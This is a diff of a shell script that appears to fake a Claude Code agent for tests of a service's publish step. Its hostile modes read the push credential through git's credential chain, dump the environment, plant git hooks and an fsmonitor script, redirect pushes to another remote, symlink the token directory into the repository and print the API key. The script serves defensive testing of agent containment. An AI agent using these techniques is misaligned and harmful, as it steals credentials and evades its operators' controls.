@@ -1,28 +1,88 @@
 #!/bin/sh
-# A stand-in for Claude Code in print mode: reads the prompt on stdin, acts as FAKE_AGENT_MODE
-# says, and prints a result shaped like `claude -p --output-format json`.
+# A stand-in for Claude Code in print mode with streaming output (`claude -p --output-format
+# stream-json --verbose`): reads the prompt on stdin, acts as FAKE_AGENT_MODE says, and prints
+# events shaped like Claude Code's, the result last. The hostile modes try to get the push
+# credential or to run their own code in the publish step; FAKE_MARKER is the file such code would
+# write, FAKE_OTHER_REMOTE a second git server that counts the credentials it is offered.
 prompt=$(cat)
+# A prompt that starts with "fake-agent: <mode>" chooses the mode (the local runtime's tests).
+case "$prompt" in
+    "fake-agent: "*) FAKE_AGENT_MODE=$(printf '%s\n' "$prompt" | head -n 1 | cut -d' ' -f2) ;;
+esac
+event() {
+    printf '%s\n' "$1"
+}
+result() {
+    event '{"type":"result","subtype":"success","is_error":false,"result":"done","num_turns":3,"total_cost_usd":0.12}'
+}
+event '{"type":"system","subtype":"init","session_id":"fake","tools":["Edit","Bash"]}'
 case "${FAKE_AGENT_MODE:-edit}" in
   edit)
     printf '%s\n' "$prompt" > CHANGES.md
     ;;
-  rotate)
+  slow)
+    event '{"type":"assistant","message":{"content":[{"type":"tool_use","name":"Edit","input":{}}]}}'
+    sleep "${FAKE_SLOW_SECONDS:-3}"
     printf '%s\n' "$prompt" > CHANGES.md
-    # The service rotates the token while the agent works: the next git call must use the new one.
-    printf '%s' "$FAKE_NEW_TOKEN" > "$PARA_SESSION_DIR/token.next" && mv "$PARA_SESSION_DIR/token.next" "$PARA_SESSION_DIR/token"
-    sleep 1
+    event '{"type":"assistant","message":{"content":[{"type":"tool_use","name":"Bash","input":{}}]}}'
+    sleep "${FAKE_SLOW_SECONDS:-3}"
+    ;;
+  sleep)
+    # Works, then never finishes: the time limit stops it.
+    printf '%s\n' "$prompt" > CHANGES.md
+    sleep 600 &
+    wait
+    ;;
+  fail)
+    printf '%s\n' "$prompt" > CHANGES.md
+    event '{"type":"result","subtype":"error_during_execution","is_error":true,"num_turns":2,"total_cost_usd":0.05}'
+    exit 1
     ;;
   nothing)
     ;;
   snoop)
-    # An agent after the push credential: git's credential chain, and a push of its own.
+    # After the push credential: git's credential chain, and a push of its own.
     { printf 'url=%s\n\n' "$(git remote get-url origin)" | git credential fill; } > SNOOP.md 2>&1 \
         || echo "no credential" >> SNOOP.md
     git push origin HEAD:refs/heads/agent-own-branch >> SNOOP.md 2>&1 || echo "push refused" >> SNOOP.md
+    env >> SNOOP.md
+    ;;
+  hook)
+    printf '%s\n' "$prompt" > CHANGES.md
+    for hook in pre-commit commit-msg pre-push post-commit reference-transaction; do
+        printf '#!/bin/sh\necho %s >> "%s"\n' "$hook" "$FAKE_MARKER" > ".git/hooks/$hook"
+        chmod +x ".git/hooks/$hook"
+    done
+    git config core.hooksPath "$(pwd)/.git/hooks"
+    ;;
+  fsmonitor)
+    printf '%s\n' "$prompt" > CHANGES.md
+    printf '#!/bin/sh\necho fsmonitor >> "%s"\n' "$FAKE_MARKER" > .git/fsmonitor.sh
+    chmod +x .git/fsmonitor.sh
+    git config core.fsmonitor "$(pwd)/.git/fsmonitor.sh"
+    mkdir -p nested && git -C nested init -q && git -C nested config core.fsmonitor "$(pwd)/.git/fsmonitor.sh"
+    ;;
+  insteadof)
+    printf '%s\n' "$prompt" > CHANGES.md
+    git config "url.$FAKE_OTHER_REMOTE.insteadOf" "$(git remote get-url origin)"
+    mkdir -p "$HOME" && git config --global "url.$FAKE_OTHER_REMOTE.insteadOf" "$(git remote get-url origin)"
+    ;;
+  remote)
+    printf '%s\n' "$prompt" > CHANGES.md
+    git remote set-url origin "$FAKE_OTHER_REMOTE"
+    git remote set-url --push origin "$FAKE_OTHER_REMOTE"
+    ;;
+  link)
+    # Puts a link to the token where the work tree was, hoping publish commits what it points at.
+    cd .. && mv repo repo.moved && ln -s "$(dirname "${FAKE_TOKEN_FILE:-/var/run/para/github/token}")" repo
+    ;;
+  leak)
+    printf '%s\n' "$prompt" > CHANGES.md
+    event "{\"type\":\"assistant\",\"message\":{\"content\":[{\"type\":\"text\",\"text\":\"my key is $ANTHROPIC_API_KEY\"}]}}"
     ;;
   unauthenticated)
-    echo '{"type":"result","subtype":"error","is_error":true,"result":"Invalid API key · Please run /login","num_turns":0,"total_cost_usd":0}'
+    event '{"type":"result","subtype":"error","is_error":true,"result":"Invalid API key · Please run /login","num_turns":0,"total_cost_usd":0}'
     exit 1
     ;;
 esac
-echo '{"type":"result","subtype":"success","is_error":false,"result":"done","num_turns":3,"total_cost_usd":0.12}'
+result
